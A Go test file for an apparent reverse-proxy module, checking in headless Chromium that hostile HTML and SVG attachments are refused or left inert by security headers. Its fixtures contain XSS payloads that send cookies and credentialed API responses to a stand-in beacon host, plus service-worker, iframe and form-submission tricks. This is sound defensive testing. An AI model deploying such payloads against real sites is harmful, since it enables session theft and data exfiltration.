package caddymodule

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// requiredTools is "required" where a test may not skip for want of a program.
const requiredTools = "BELLHOP_TEST_TOOLS"

// chromium finds the browser, or skips the test.
func chromium(t *testing.T) string {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err == nil {
		return path
	}
	if os.Getenv(requiredTools) == "required" {
		t.Fatal(err)
	}
	t.Skip(err)
	return ""
}

// visits remembers what a server was asked for.
type visits struct {
	mu   sync.Mutex
	made []string
}

func (v *visits) add(r *http.Request) {
	v.mu.Lock()
	defer v.mu.Unlock()
	v.made = append(v.made, r.Method+" "+r.URL.Path)
}

func (v *visits) take() []string {
	v.mu.Lock()
	defer v.mu.Unlock()
	made := v.made
	v.made = nil
	return made
}

// hostilePage is an attachment that tries all that a page can do to the origin
// that it is shown on, and to tell somebody else of it. It is hostile in BEACON's
// favour.
const hostilePage = `<!doctype html>
<html><head><title>an attachment</title>
<meta http-equiv="refresh" content="3;url=BEACON/refresh">
<link rel="stylesheet" href="BEACON/style.css">
<link rel="prefetch" href="/proxy/bob/prefetched">
<style>@import "BEACON/import.css"; body { background: url(BEACON/background) }</style>
</head><body>
<p id="marker">unset</p>
<script>
document.getElementById("marker").textContent = "ran";
new Image().src = "BEACON/script?" + encodeURIComponent(document.cookie);
fetch("/v1/accounts", {credentials: "include"}).then(r => r.text()).then(text => fetch("BEACON/fetched?" + text.length, {mode: "no-cors"}));
fetch("/proxy/bob/fetched").then(r => r.text()).then(text => fetch("BEACON/read?" + text.length, {mode: "no-cors"}));
if (navigator.serviceWorker) navigator.serviceWorker.register("/proxy/bob/worker.js").catch(() => {});
try { new Worker("/proxy/bob/worker.js") } catch (e) {}
</script>
<script src="/proxy/bob/script.js"></script>
<script src="BEACON/script.js"></script>
<img src="data:," onerror="fetch('BEACON/onerror', {mode: 'no-cors'})">
<img src="BEACON/image">
<svg onload="fetch('BEACON/onload', {mode: 'no-cors'})"></svg>
<iframe src="/proxy/bob/framed"></iframe>
<iframe srcdoc="&lt;script&gt;fetch('BEACON/srcdoc', {mode: 'no-cors'})&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.fetch('BEACON/javascript', {mode: 'no-cors'})"></iframe>
<object data="/proxy/bob/object"></object>
<embed src="/proxy/bob/embedded">
<form id="form" action="/proxy/bob/submitted" method="post" target="inner"><input name="a" value="b"></form>
<iframe name="inner"></iframe>
<script>document.getElementById("form").submit()</script>
</body></html>`

const hostileImage = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<text id="marker">unset</text>
<image href="BEACON/image"/>
<script>document.getElementById("marker").textContent = "ran"; fetch("BEACON/script", {mode: "no-cors"}); fetch("/proxy/bob/fetched")</script>
</svg>`

// bearing is a server that does what a browser cannot be made to do: it sends a
// caller's key along with each request, and to try how the page would fare
// without them, it takes protections away.
type bearing struct {
	*httptest.Server
	visits

	mu            sync.Mutex
	withoutPolicy bool // of answers
	withoutFetch  bool // Sec-Fetch-* of the page itself
}

func newBearing(t *testing.T, s *proxied) *bearing {
	t.Helper()
	site, err := url.Parse(s.url)
	if err != nil {
		t.Fatal(err)
	}
	b := new(bearing)
	b.Server = httptest.NewServer(&httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			b.add(r.In)
			r.SetURL(site)
			r.Out.Header.Set("X-Bellhop-Key", s.key)
			b.mu.Lock()
			defer b.mu.Unlock()
			if b.withoutFetch && r.In.Header.Get("Sec-Fetch-Dest") == "document" {
				for _, name := range []string{"Dest", "Mode", "Site", "User"} {
					r.Out.Header.Del("Sec-Fetch-" + name)
				}
			}
		},
		ModifyResponse: func(r *http.Response) error {
			b.mu.Lock()
			defer b.mu.Unlock()
			if b.withoutPolicy {
				r.Header.Del("Content-Security-Policy")
			}
			return nil
		},
	})
	t.Cleanup(b.Close)
	return b
}

func (b *bearing) protect(policy, fetch bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.withoutPolicy, b.withoutFetch = !policy, !fetch
}

// look has the browser open a page, and returns what it shows some seconds
// later. Names below .test lead to this machine.
func look(t *testing.T, browser, page string) string {
	t.Helper()
	dir := t.TempDir()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, browser,
		"--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-default-apps", "--disable-extensions",
		"--user-data-dir="+dir, "--host-resolver-rules=MAP *.test 127.0.0.1", "--virtual-time-budget=5000", "--dump-dom", page)
	cmd.Env = append(os.Environ(), "HOME="+dir)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("%v: %s", err, stderr.Bytes())
	}
	return stdout.String()
}

// TestAnAttachmentNeverRunsAsAPage opens hostile attachments in a real browser.
func TestAnAttachmentNeverRunsAsAPage(t *testing.T) {
	browser := chromium(t)
	s := startProxied(t, graphAtAPI...)
	handle := s.handedOut("file=page.html")
	var told visits
	beacon := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { told.add(r) }))
	t.Cleanup(beacon.Close)
	beaconURL := strings.Replace(beacon.URL, "127.0.0.1", "beacon.test", 1)
	var reached visits
	s.api.handle(func(w http.ResponseWriter, r *http.Request) {
		reached.add(r)
		w.Header().Set("Set-Cookie", "api=session")
		switch {
		case r.URL.Path == "/files/page.html", r.URL.Query().Get("file") == "page.html":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = strings.NewReplacer("BEACON", beaconURL).WriteString(w, hostilePage)
		case r.URL.Path == "/files/image.svg":
			w.Header().Set("Content-Type", "image/svg+xml")
			_, _ = strings.NewReplacer("BEACON", beaconURL).WriteString(w, hostileImage)
		default:
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, "fetch(%q, {mode: 'no-cors'})", beaconURL+"/from-the-api")
		}
	})
	front := newBearing(t, s)
	named := strings.Replace(front.URL, "127.0.0.1", "bellhop.test", 1)

	for file, c := range map[string]struct {
		path, reached string
		page          bool
	}{
		"page":           {"/proxy/bob/files/page.html", "/files/page.html", true},
		"image":          {"/proxy/bob/files/image.svg", "/files/image.svg", false},
		"page by handle": {handle, "/_layouts/15/download.aspx", true},
	} {
		path := c.path
		t.Run(file+" is refused where the browser says what for", func(t *testing.T) {
			front.protect(true, true)
			shown := look(t, browser, front.URL+path)
			if !strings.Contains(shown, "not served as a document") || strings.Contains(shown, "marker") {
				t.Errorf("shown: %s", shown)
			}
			wantVisits(t, "Bellhop", withoutIcon(front.take()), "GET "+path)
			wantVisits(t, "the API", reached.take())
			wantVisits(t, "the beacon", told.take())
		})
		for name, from := range map[string]struct {
			base  string
			fetch bool
		}{
			"a name over plain HTTP": {named, true},
			"an old browser":         {front.URL, false},
		} {
			t.Run(file+" is shown and inert, "+name, func(t *testing.T) {
				front.protect(true, from.fetch)
				shown := look(t, browser, from.base+path)
				if !strings.Contains(shown, `id="marker">unset<`) {
					t.Errorf("shown: %s", shown)
				}
				wantVisits(t, "Bellhop", withoutIcon(front.take()), "GET "+path)
				wantVisits(t, "the API", withoutIcon(reached.take()), "GET "+c.reached)
				wantVisits(t, "the beacon", told.take())
			})
			// What the page would do, so that the tests above can fail.
			t.Run(file+" runs without the policy, "+name, func(t *testing.T) {
				front.protect(false, from.fetch)
				look(t, browser, from.base+path)
				asked, sent := front.take(), told.take()
				if !slices.Contains(asked, "GET /proxy/bob/fetched") || !slices.Contains(sent, "GET /script") ||
					slices.Contains(sent, "GET /refresh") != c.page {
					t.Errorf("asked for %q, told %q", asked, sent)
				}
				if calls := reached.take(); c.page && from.base == front.URL {
					// Even then no answer is a script, a worker or a frame.
					for _, refused := range []string{"GET /worker.js", "GET /script.js", "GET /framed", "GET /object", "GET /embedded", "POST /submitted"} {
						if slices.Contains(calls, refused) {
							t.Errorf("the API was asked to %s", refused)
						}
					}
					if slices.Contains(sent, "GET /from-the-api") {
						t.Error("a script of the API's ran")
					}
				}
			})
		}
	}
}

// wantVisits compares what a server was asked for with all that it should be.
func wantVisits(t *testing.T, server string, made []string, want ...string) {
	t.Helper()
	if !slices.Equal(made, want) {
		t.Errorf("%s was asked for %q, want %q", server, made, want)
	}
}

// withoutIcon leaves out what a browser asks every site for.
func withoutIcon(made []string) []string {
	return slices.DeleteFunc(made, func(visit string) bool { return visit == "GET /favicon.ico" })
}
